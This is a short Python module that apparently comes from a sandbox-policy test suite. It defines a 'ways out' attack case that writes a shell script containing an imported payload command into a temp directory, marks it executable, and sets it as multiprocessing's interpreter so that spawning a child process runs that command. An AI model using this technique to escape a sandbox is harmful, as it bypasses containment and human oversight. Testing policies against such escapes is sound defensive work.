"""multiprocessing is told to start another interpreter."""
CATEGORY = "ways out"
REACH = "run"
POLICIES = ("baseline", "deny")
GRANT = {"write": ["@ROOT@/tmp"]}

import multiprocessing
import os

from . import payload


def attack():
    path = payload.ROOT + "/tmp/python"
    with open(path, "w") as file:
        file.write("#!/bin/sh\n" + payload.COMMAND)
    os.chmod(path, 0o755)
    multiprocessing.set_executable(path)
